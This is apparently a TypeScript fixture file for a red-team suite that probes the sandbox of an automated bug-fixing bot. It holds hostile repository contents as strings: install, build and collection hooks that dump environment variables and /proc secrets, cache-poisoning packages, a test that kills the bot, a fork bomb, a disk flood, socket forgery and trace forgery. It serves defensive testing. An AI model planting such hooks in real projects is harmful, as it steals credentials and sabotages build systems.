// The hostile (and honest) repositories of the red-team suite. Each holds a small real bug
// the template strategy can fix (so the bot goes all the way to its commit, where planted
// hooks would fire) and tests that attack; attacks run at collection and report through
// the ids of passing tests (see assets/rtlib.*): never failing, never in fault localisation.
import { asset, type RepoSpec } from "./redteam.ts";

// This machine's Python has pytest plugins installed (hypothesis, pytest-benchmark) that would
// load into every pytest run of the bot's and dominate its time (pytest-benchmark alone starts
// git, hg and file at each start); none of these repositories uses one. Their own code (conftest.py,
// a `-p` plugin in setup.cfg) still loads: autoload covers only installed entry points.
const NO_HOST_PLUGINS = { ".github/autogen.yml": 'test:\n  env:\n    PYTEST_DISABLE_PLUGIN_AUTOLOAD: "1"\n' };

const PY_BUG = {
  ...NO_HOST_PLUGINS,
  "calc.py": "def add(a, b):\n    return a - b\n",
  "tests/__init__.py": "",
  "tests/test_calc.py":
    "from calc import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n\n\ndef test_add_zero():\n    assert add(4, 0) == 4\n",
};

const PY_PRELUDE =
  "import os\nimport sys\n\nROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))\nsys.path.insert(0, ROOT)\nimport rtlib  # noqa: E402\n\n";

/** Python: /proc, env, writes everywhere, data dir, git planting, egress, a daemon, conftest.py and a setup.cfg plugin. */
export function pyHostile(): RepoSpec {
  return {
    source: "calc.py",
    files: {
      ...PY_BUG,
      "rtlib.py": asset("rtlib.py"),
      // Runs at collection, before any test: the earliest code a repository controls.
      "conftest.py":
        'import os\nimport rtlib\n\nRESULT = {"writes": rtlib.write_outside("conftest-%d" % os.getpid()), "env": rtlib.scan_env()["hits"]}\n',
      // setup.cfg loads a plugin of the repository's own through addopts.
      "setup.cfg": "[tool:pytest]\naddopts = -p rt_plugin\npythonpath = .\n",
      "rt_plugin.py":
        'import os\nimport rtlib\n\nRESULT = {"writes": rtlib.write_outside("setupcfg-%d" % os.getpid())}\n',
      "tests/test_zz_attacks.py":
        PY_PRELUDE +
        [
          "import pytest  # noqa: E402",
          "",
          "EVIDENCE = [",
          '    rtlib.evidence("proc", rtlib.scan_proc()),',
          '    rtlib.evidence("env", rtlib.scan_env()),',
          '    rtlib.evidence("write", rtlib.write_outside("pytest-%d" % os.getpid())),',
          '    rtlib.evidence("datadir", {"found": rtlib.read_data_dir()}),',
          '    rtlib.evidence("git", rtlib.plant_git(ROOT)),',
          '    rtlib.evidence("egress", rtlib.egress()),',
          '    rtlib.evidence("daemon", rtlib.daemon(ROOT)),',
          '    rtlib.evidence("conftest", sys.modules["conftest"].RESULT),',
          '    rtlib.evidence("setupcfg", sys.modules["rt_plugin"].RESULT),',
          "]",
          "",
          "",
          '@pytest.mark.parametrize("ev", EVIDENCE, ids=EVIDENCE)',
          "def test_rt(ev):",
          '    assert ev.startswith("RTEV:")',
          "",
        ].join("\n"),
    },
  };
}

/** Honest Python tests: a local HTTP server on 127.0.0.1 and ::1, sockets, temp files, a subprocess, threads. */
export function pyHonest(): RepoSpec {
  return {
    source: "calc.py",
    files: {
      ...PY_BUG,
      "tests/test_local.py": [
        "import http.server",
        "import socket",
        "import subprocess",
        "import sys",
        "import tempfile",
        "import threading",
        "import urllib.request",
        "",
        "",
        "class Hello(http.server.BaseHTTPRequestHandler):",
        "    def do_GET(self):",
        "        self.send_response(200)",
        "        self.end_headers()",
        "        self.wfile.write(b'hello')",
        "",
        "    def log_message(self, *args):",
        "        pass",
        "",
        "",
        "def fetch(family, host, url_host):",
        "    class Server(http.server.ThreadingHTTPServer):",
        "        address_family = family",
        "",
        "    server = Server((host, 0), Hello)",
        "    thread = threading.Thread(target=server.serve_forever, daemon=True)",
        "    thread.start()",
        "    try:",
        "        port = server.server_address[1]",
        "        with urllib.request.urlopen('http://%s:%d/' % (url_host, port), timeout=5) as response:",
        "            return response.read()",
        "    finally:",
        "        server.shutdown()",
        "",
        "",
        "def test_http_server_ipv4_loopback():",
        "    assert fetch(socket.AF_INET, '127.0.0.1', '127.0.0.1') == b'hello'",
        "",
        "",
        "def test_http_server_ipv6_loopback():",
        "    assert fetch(socket.AF_INET6, '::1', '[::1]') == b'hello'",
        "",
        "",
        "def test_localhost_name_resolves_to_loopback():",
        "    assert socket.gethostbyname('localhost') == '127.0.0.1'",
        "",
        "",
        "def test_socketpair_tempfile_subprocess():",
        "    a, b = socket.socketpair()",
        "    a.sendall(b'ping')",
        "    assert b.recv(4) == b'ping'",
        "    with tempfile.NamedTemporaryFile() as handle:",
        "        handle.write(b'x' * 1000)",
        "        handle.flush()",
        "    out = subprocess.run([sys.executable, '-c', 'print(6 * 7)'], capture_output=True, text=True, check=True)",
        "    assert out.stdout.strip() == '42'",
        "",
      ].join("\n"),
    },
  };
}

const JS_BUG = {
  "calc.js": "function add(a, b) {\n  return a - b;\n}\n\nmodule.exports = { add };\n",
  "test/calc.test.js":
    'const test = require("node:test");\nconst assert = require("node:assert");\nconst { add } = require("../calc.js");\n\ntest("adds", () => {\n  assert.strictEqual(add(2, 3), 5);\n});\n\ntest("adds zero", () => {\n  assert.strictEqual(add(4, 0), 4);\n});\n',
};

/**
 * JavaScript: /proc, env, writes, egress, a daemon, the worktree's `.git` replaced by a
 * directory, lifecycle scripts, and an honest loopback server. The failing test is named
 * after what the /proc scan stole (hex): the bot itself then prints the secrets wherever
 * it names the failing test (report, PR body, status comment).
 */
export function jsHostile(): RepoSpec {
  const lifecycle = (name: string) => `node lifecycle.cjs ${name}`;
  return {
    source: "calc.js",
    files: {
      ...JS_BUG,
      "test/calc.test.js": [
        'const test = require("node:test");',
        'const assert = require("node:assert");',
        'const { add } = require("../calc.js");',
        'const rt = require("../rtlib.cjs");',
        "",
        "// Stable across the bot's runs (the same secrets, sorted), so the bot can select the test by name.",
        'const stolen = [...new Set(rt.scanProc().environ_hits.map((h) => h[1]).filter((v) => v.includes("RTCANARY")))].sort();',
        'const suffix = stolen.length ? ` ${rt.evidence("name", { stolen }).slice("RTEV:name:".length)}` : "";',
        "",
        "test(`adds${suffix}`, () => {",
        "  assert.strictEqual(add(2, 3), 5);",
        "});",
        "",
        'test("adds zero", () => {',
        "  assert.strictEqual(add(4, 0), 4);",
        "});",
        "",
      ].join("\n"),
      "rtlib.cjs": asset("rtlib.js.txt"),
      "lifecycle.cjs":
        'const fs = require("node:fs");\nconst path = require("node:path");\nconst conf = JSON.parse(fs.readFileSync(path.join(__dirname, "rtconf.json"), "utf8"));\ntry {\n  fs.writeFileSync(path.join(conf.loot, `lifecycle-${process.argv[2]}.txt`), JSON.stringify(process.env));\n} catch {}\n',
      "package.json": `${JSON.stringify(
        {
          name: "hostile",
          version: "1.0.0",
          private: true,
          scripts: {
            preinstall: lifecycle("preinstall"),
            postinstall: lifecycle("postinstall"),
            prepare: lifecycle("prepare"),
            pretest: lifecycle("pretest"),
            test: `${lifecycle("test-prefix")} && node --test`,
            posttest: lifecycle("posttest"),
          },
        },
        null,
        2,
      )}\n`,
      "test/zz-attacks.test.js": [
        'const test = require("node:test");',
        'const assert = require("node:assert");',
        'const http = require("node:http");',
        'const path = require("node:path");',
        'const { spawnSync } = require("node:child_process");',
        'const rt = require("../rtlib.cjs");',
        'const ROOT = path.join(__dirname, "..");',
        "",
        "const PROC = rt.scanProc();",
        "const EVIDENCE = [",
        '  rt.evidence("proc", PROC),',
        '  rt.evidence("env", rt.scanEnv()),',
        '  rt.evidence("write", rt.writeOutside(`node-${process.pid}`)),',
        '  rt.evidence("egress", JSON.parse(spawnSync(process.execPath, [path.join(ROOT, "rtlib.cjs"), "egress"], { encoding: "utf8" }).stdout || "{}")),',
        '  rt.evidence("daemon", rt.daemon()),',
        '  rt.evidence("gitswap", rt.swapGitDir(ROOT)),',
        '  rt.evidence("tamper", { result: rt.tamperFix(ROOT, PROC.environ_hits.map((h) => h[1])) }),',
        "];",
        'for (const ev of EVIDENCE) test(ev, () => assert.ok(ev.startsWith("RTEV:")));',
        "",
        "for (const host of ['127.0.0.1', '::1']) {",
        "  test(`honest http server on ${host}`, async () => {",
        "    const server = http.createServer((req, res) => res.end('hello'));",
        "    await new Promise((resolve) => server.listen(0, host, resolve));",
        "    try {",
        "      const url = `http://${host.includes(':') ? `[${host}]` : host}:${server.address().port}/`;",
        "      assert.strictEqual(await (await fetch(url)).text(), 'hello');",
        "    } finally {",
        "      server.close();",
        "    }",
        "  });",
        "}",
        "",
      ].join("\n"),
    },
  };
}

/** A test that kills its parent and the bot itself when it can see it, and leaves a process behind. */
export function pyKiller(tag: string): RepoSpec {
  return {
    source: "calc.py",
    files: {
      ...NO_HOST_PLUGINS,
      "calc.py": "def add(a, b):\n    return a + b\n",
      "tests/test_killer.py": [
        "import os",
        "import signal",
        "import subprocess",
        "import sys",
        "",
        "",
        "def ancestors():",
        "    pid, out = os.getppid(), []",
        "    while pid > 1:",
        "        out.append(pid)",
        "        with open('/proc/%d/status' % pid) as handle:",
        "            pid = int([l for l in handle if l.startswith('PPid:')][0].split()[1])",
        "    return out",
        "",
        "",
        "def test_kill_parent_and_bot():",
        "    subprocess.Popen([sys.executable, '-c', 'import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(120)', " +
          JSON.stringify(tag) +
          "], start_new_session=True)",
        "    for pid in ancestors():",
        "        try:",
        "            with open('/proc/%d/cmdline' % pid, 'rb') as handle:",
        "                cmd = handle.read()",
        "        except OSError:",
        "            continue",
        "        # The immediate parent, and the bot (never the harness above it).",
        "        if pid == os.getppid() or b'autogen.js' in cmd:",
        "            try:",
        "                os.kill(pid, signal.SIGKILL)",
        "            except OSError:",
        "                pass",
        "",
        "",
        "def test_add():",
        "    from calc import add",
        "    assert add(1, 2) == 3",
        "",
      ].join("\n"),
    },
  };
}

/**
 * A fork bomb (bounded: 1,000 processes) and a disk flood (256 files, 4 GiB in all: four
 * times the default 1 GiB cap, so whether it is stopped does not depend on how fast the
 * machine writes), each once per worktree.
 */
export function pyResources(): RepoSpec {
  return {
    source: "calc.py",
    files: {
      ...PY_BUG,
      "rtlib.py": asset("rtlib.py"),
      "tests/test_zz_resources.py":
        PY_PRELUDE +
        [
          "import pytest  # noqa: E402",
          "",
          "EVIDENCE = []",
          'if rtlib.once(ROOT, "forkbomb"):',
          '    EVIDENCE.append(rtlib.evidence("forkbomb", rtlib.fork_bomb(1000)))',
          'if rtlib.once(ROOT, "diskflood"):',
          '    EVIDENCE.append(rtlib.evidence("diskflood", rtlib.disk_flood(os.path.join(ROOT, "build", "flood"), files=256)))',
          "",
          "",
          '@pytest.mark.parametrize("ev", EVIDENCE or ["RTEV:none:"], ids=EVIDENCE or ["RTEV:none:"])',
          "def test_rt(ev):",
          '    assert ev.startswith("RTEV:")',
          "",
        ].join("\n"),
    },
  };
}

/** A test that sleeps far past the one-minute limit and ignores SIGTERM. */
export function pyHang(tag: string): RepoSpec {
  return {
    source: "calc.py",
    files: {
      "calc.py": "def add(a, b):\n    return a + b\n",
      ".github/autogen.yml": "test:\n  timeoutMinutes: 1\n",
      "tests/test_hang.py": `import signal\nimport time\n\n\ndef test_sleeps_forever():\n    signal.signal(signal.SIGTERM, signal.SIG_IGN)\n    tag = ${JSON.stringify(tag)}\n    time.sleep(3600)\n`,
    },
  };
}

/** The repository's config sets a variable that would run the repository's code before the tests (NODE_OPTIONS, PYTHONSTARTUP). */
export function envConfig(variable: "NODE_OPTIONS" | "PYTHONSTARTUP", value: string): RepoSpec {
  const js = variable === "NODE_OPTIONS";
  return {
    source: js ? "calc.js" : "calc.py",
    files: {
      ...(js
        ? {
            ...JS_BUG,
            "package.json": '{ "name": "envconfig", "private": true, "scripts": { "test": "node --test" } }\n',
          }
        : PY_BUG),
      ".github/autogen.yml": `test:\n  env:\n    ${variable}: ${JSON.stringify(value)}\n`,
      "evil.py":
        "import json, os\nconf = json.load(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), 'rtconf.json')))\nopen(os.path.join(conf['loot'], 'envconfig.txt'), 'w').write(json.dumps(dict(os.environ)))\n",
      "evil.cjs":
        'const fs = require("node:fs");\nconst path = require("node:path");\nconst conf = JSON.parse(fs.readFileSync(path.join(__dirname, "rtconf.json"), "utf8"));\nfs.writeFileSync(path.join(conf.loot, "envconfig.txt"), JSON.stringify(process.env));\n',
    },
  };
}

/** The buggy source is a symbolic link to a file outside the repository (in the sentinel tree). */
export function pySymlinkSource(): RepoSpec {
  return {
    source: "calc.py",
    files: { ...NO_HOST_PLUGINS, "tests/__init__.py": "", "tests/test_calc.py": PY_BUG["tests/test_calc.py"] },
  };
}

/**
 * The coverage trace forged: conftest.py, at exit (after the bot's pytest plugin wrote its
 * trace to AUTOGEN_TRACE_OUT), adds lines of a file outside the worktree to the failing
 * test's coverage as a relative path (`../…`), so fault localisation points there. (An
 * absolute path there crashes the bot today: joined to the worktree, ENOENT, uncaught.)
 */
export function pyForgedTrace(victim: string): RepoSpec {
  return {
    source: "calc.py",
    files: {
      ...PY_BUG,
      "conftest.py": [
        "import atexit",
        "import json",
        "import os",
        "",
        "ROOT = os.path.dirname(os.path.abspath(__file__))",
        `VICTIM = ${JSON.stringify(victim)}`,
        "",
        "",
        "def forge():",
        "    out = os.environ.get('AUTOGEN_TRACE_OUT')",
        "    if not out or not os.path.exists(out):",
        "        return",
        "    with open(out) as handle:",
        "        trace = json.load(handle)",
        "    for entry in trace.values():",
        "        if entry.get('outcome') != 'passed':",
        "            entry.setdefault('lines', {})[os.path.relpath(VICTIM, ROOT)] = [1, 2]",
        "    with open(out, 'w') as handle:",
        "        json.dump(trace, handle)",
        "",
        "",
        "atexit.register(forge)",
        "",
      ].join("\n"),
    },
  };
}

/**
 * Two repositories with the same package.json and package-lock.json (no dependencies): the
 * attacker's root postinstall plants a package in node_modules (with what it could read:
 * the environment, /proc/*\/environ, the bot's data dir) and tries writes outside; the
 * victim's own plant.cjs is empty, and a test of its fails if the planted package is there.
 */
export function jsCachePoison(role: "attacker" | "victim"): RepoSpec {
  const attacker = [
    'const fs = require("node:fs");',
    'const path = require("node:path");',
    'const conf = JSON.parse(fs.readFileSync(path.join(__dirname, "rtconf.json"), "utf8"));',
    'const tryRead = (p) => { try { return fs.readFileSync(p, "latin1"); } catch (e) { return `UNREADABLE ${e.code}`; } };',
    "const environ = {};",
    'for (const pid of fs.readdirSync("/proc").filter((n) => /^\\d+$/.test(n))) environ[pid] = tryRead(`/proc/${pid}/environ`);',
    "const writes = {};",
    'for (const p of [path.join(conf.sentinel, "victim.txt"), path.join(conf.data_dir, "rt-secret.txt"), path.join(conf.loot, "install-loot.txt")]) { try { fs.appendFileSync(p, "planted by an install script\\n"); writes[p] = "WROTE"; } catch (e) { writes[p] = e.code; } }',
    'const dir = path.join(__dirname, "node_modules", "rt-planted");',
    "fs.mkdirSync(dir, { recursive: true });",
    'fs.writeFileSync(path.join(dir, "index.js"), "module.exports = \\"planted by the attacker\\";\\n");',
    'fs.writeFileSync(path.join(dir, "stolen.json"), JSON.stringify({ env: process.env, environ, data_dir: tryRead(path.join(conf.data_dir, "rt-secret.txt")), writes }));',
    "",
  ].join("\n");
  const probe =
    'const test = require("node:test");\nconst assert = require("node:assert");\nconst fs = require("node:fs");\nconst path = require("node:path");\n\ntest("no planted package", () => {\n  const p = path.join(__dirname, "..", "node_modules", "rt-planted", "index.js");\n  assert.ok(!fs.existsSync(p), `PLANTED-FROM-CACHE ${fs.existsSync(p) ? fs.readFileSync(p, "utf8").trim() : ""}`);\n});\n';
  return {
    source: "calc.js",
    files: {
      ...JS_BUG,
      "package.json":
        '{ "name": "rt-shared", "version": "1.0.0", "private": true, "scripts": { "test": "node --test", "postinstall": "node plant.cjs" } }\n',
      "package-lock.json":
        '{ "name": "rt-shared", "version": "1.0.0", "lockfileVersion": 3, "requires": true, "packages": { "": { "name": "rt-shared", "version": "1.0.0" } } }\n',
      "plant.cjs": role === "attacker" ? attacker : "// nothing to do\n",
      "test/probe.test.js": probe,
    },
  };
}

/**
 * Python, for the warm runner: in a warm fork (AUTOGEN_WARM_SOCKET set) the failing test
 * looks for other slots' control directories, connects to the bot's socket a second time
 * and sends a forged answer, then starts a detached process whose command line carries
 * the tag and what it found (the host reads it while the bot runs).
 */
export function pyWarmProbe(tag: string): RepoSpec {
  const probe = [
    "import os",
    "import socket",
    "import subprocess",
    "",
    "",
    "def probe():",
    '    path = os.environ.get("AUTOGEN_WARM_SOCKET")',
    "    if not path:",
    "        return",
    "    ctl = os.path.dirname(path)",
    '    others = [n for n in os.listdir("/tmp") if n.startswith("autogen-warm-") and os.path.join("/tmp", n) != ctl] if os.path.isdir("/tmp") else []',
    "    try:",
    "        s = socket.socket(socket.AF_UNIX)",
    "        s.settimeout(2)",
    "        s.connect(path)",
    '        s.sendall(b\'{"status": "ran", "exit": 0, "signal": null, "ms": 1}\\n\')',
    "        try:",
    '            second = "connected-read-" + ("closed" if s.recv(16) == b"" else "open")',
    "        except socket.timeout:",
    '            second = "connected-open"',
    "    except OSError as e:",
    '        second = "refused-" + type(e).__name__',
    '    subprocess.Popen(["python3", "-c", "import time; time.sleep(600)", ' +
      "TAG" +
      ', "others=%d" % len(others), "second=" + second], start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)',
    // Alive for a second inside the test at least: the host's watcher (50 ms) sees it however busy the machine.
    "    import time",
    "    time.sleep(1)",
    "",
  ]
    .join("\n")
    .replace("TAG", JSON.stringify(tag));
  return {
    source: "calc.py",
    files: {
      ...PY_BUG,
      "tests/warm_probe.py": probe,
      "tests/test_calc.py":
        "from calc import add\nfrom tests.warm_probe import probe\n\n\ndef test_add():\n    probe()\n    assert add(2, 3) == 5\n\n\ndef test_add_zero():\n    assert add(4, 0) == 4\n",
    },
  };
}

/**
 * The pip form of jsCachePoison: requirements.txt names a local package built by an
 * in-tree build backend (no download needed offline). The attacker's backend steals,
 * writes outside and builds a planted package; the victim's builds a clean one, and a test
 * of the victim's fails if the package it imports is the attacker's.
 */
export function pyCachePoison(role: "attacker" | "victim"): RepoSpec {
  const hostile = [
    "    import json",
    "    conf = json.load(open(os.path.join(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__)))), 'rtconf.json')))",
    "    def read(p):",
    "        try:",
    "            return open(p, 'rb').read().decode('latin1')",
    "        except OSError as e:",
    "            return 'UNREADABLE ' + type(e).__name__",
    "    environ = {pid: read('/proc/%s/environ' % pid) for pid in os.listdir('/proc') if pid.isdigit()}",
    "    writes = {}",
    "    for p in [os.path.join(conf['sentinel'], 'victim.txt'), os.path.join(conf['data_dir'], 'rt-secret.txt'), os.path.join(conf['loot'], 'pip-loot.txt')]:",
    "        try:",
    "            open(p, 'a').write('planted by a build backend\\n')",
    "            writes[p] = 'WROTE'",
    "        except OSError as e:",
    "            writes[p] = type(e).__name__",
    "    stolen = json.dumps({'env': dict(os.environ), 'environ': environ, 'data_dir': read(os.path.join(conf['data_dir'], 'rt-secret.txt')), 'writes': writes}).encode()",
    "    files['rtpkg/stolen.json'] = stolen",
  ].join("\n");
  const backend = [
    "import base64",
    "import hashlib",
    "import os",
    "import zipfile",
    "",
    "",
    "def get_requires_for_build_wheel(config_settings=None):",
    "    return []",
    "",
    "",
    "def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):",
    `    files = {"rtpkg/__init__.py": ${role === "attacker" ? "b\"PLANTED = 'planted by the attacker'\\n\"" : 'b"PLANTED = None\\n"'}}`,
    ...(role === "attacker" ? [hostile] : []),
    '    files["rtpkg-1.0.dist-info/METADATA"] = b"Metadata-Version: 2.1\\nName: rtpkg\\nVersion: 1.0\\n"',
    '    files["rtpkg-1.0.dist-info/WHEEL"] = b"Wheel-Version: 1.0\\nGenerator: rt\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"',
    "    record = [f\"{p},sha256={base64.urlsafe_b64encode(hashlib.sha256(d).digest()).rstrip(b'=').decode()},{len(d)}\" for p, d in files.items()]",
    '    name = "rtpkg-1.0-py3-none-any.whl"',
    '    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as z:',
    "        for path, data in files.items():",
    "            z.writestr(path, data)",
    '        z.writestr("rtpkg-1.0.dist-info/RECORD", "\\n".join(record + ["rtpkg-1.0.dist-info/RECORD,,"]) + "\\n")',
    "    return name",
    "",
  ].join("\n");
  return {
    source: "calc.py",
    files: {
      ...PY_BUG,
      "requirements.txt": "./vendor/rtpkg\n",
      "vendor/rtpkg/pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
      "vendor/rtpkg/backend.py": backend,
      "tests/test_probe.py":
        "import rtpkg\n\n\ndef test_no_planted_package():\n    assert rtpkg.PLANTED is None, 'PLANTED-FROM-CACHE %s' % rtpkg.PLANTED\n",
    },
  };
}
